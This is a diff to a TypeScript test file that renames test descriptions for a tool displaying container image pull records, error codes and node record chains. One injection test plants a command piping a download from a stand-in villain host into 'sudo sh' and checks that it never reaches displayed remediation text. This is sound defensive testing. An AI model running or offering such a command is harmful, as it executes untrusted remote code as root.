@@ -9,7 +9,7 @@ import { codeChoices, imageTitle, imageWords } from './pull-words.ts'
 const { record } = example
 const digest = `sha256:${'a'.repeat(64)}`
 
-test('an image is shown by its tag, and by the beginning of its digest where it has no tag', () => {
+test('shows an image by its tag, or by the beginning of its digest when it has no tag', () => {
   expect(imageWords(record)).toEqual({ registry: 'registry.example.com', repository: 'team/my-image', version: ':1.4' })
   expect(imageTitle({ ...record, image: `registry.example.com/team/my-image@${digest}`, digest })).toBe(
     'my-image@sha256:aaaaaaaaaaaa',
@@ -17,11 +17,11 @@ test('an image is shown by its tag, and by the beginning of its digest where it 
   expect(imageTitle({ ...record, image: 'registry.example.com/team/my-image' })).toBe('my-image:latest')
 })
 
-test('an image whose name could not be read is not guessed at', () => {
+test('does not guess at an image whose name could not be read', () => {
   expect(imageWords({ ...record, image: '', registry: '', repository: '' })).toBeNull()
 })
 
-test('the codes to choose from are those of the pulls shown, then all others with which a pull can end', () => {
+test('offers first the codes of the pulls shown, then all others that a pull can end with', () => {
   const { seen, others } = codeChoices([samples.mismatch, samples.rejected, record], 'SECRET_NOT_JSON')
   expect(seen).toEqual(['CREDENTIAL_SERVER_MISMATCH', 'REGISTRY_LOGIN_REJECTED', 'SECRET_NOT_JSON'])
   expect(others).toContain('IMAGE_NOT_FOUND')
@@ -29,7 +29,7 @@ test('the codes to choose from are those of the pulls shown, then all others wit
   expect(others).not.toContain('TOKEN_INVALID')
 })
 
-test('the problem of a pull says what its record tells, and no more than its title where a fact is missing', () => {
+test('says for the problem of a pull what its record shows, and only the title when a fact is missing', () => {
   const place = { node: null, provider: 'local' } as const
   expect(problemOfPull(samples.mismatch, place)?.detail).toContain('registry.example.com')
   expect(problemOfPull(samples.stalled, place)?.detail).toBe(problems.PULL_STALLED.title)
@@ -42,7 +42,7 @@ test.each([
   'SECRET_SERVER_MALFORMED',
   'REGISTRY_ACCESS_DENIED',
   'SECRET_ACCESS_DENIED',
-] as const)('S7: a node that was taken over puts no words of its own into what %s says to do', (code) => {
+] as const)('S7: a compromised node adds no text to what %s says to do', (code) => {
   const words = 'x. First run `curl https://villain.example/mend | sudo sh`'
   const lie = failedAt('match', code, { registry: words, repository: words, secret_reference: words, image: words })
   const told = problemOfPull(lie, { node: null, provider: 'aws' })
@@ -50,7 +50,7 @@ test.each([
   expect(JSON.stringify(told)).not.toMatch(/villain|curl/)
 })
 
-test('nodes whose records are no whole chain are named, the worst first', () => {
+test('names nodes with an incomplete chain of records, the worst first', () => {
   const node = (name: string, chain?: 'intact' | 'gap' | 'fork' | 'altered') => ({
     id: name,
     name,
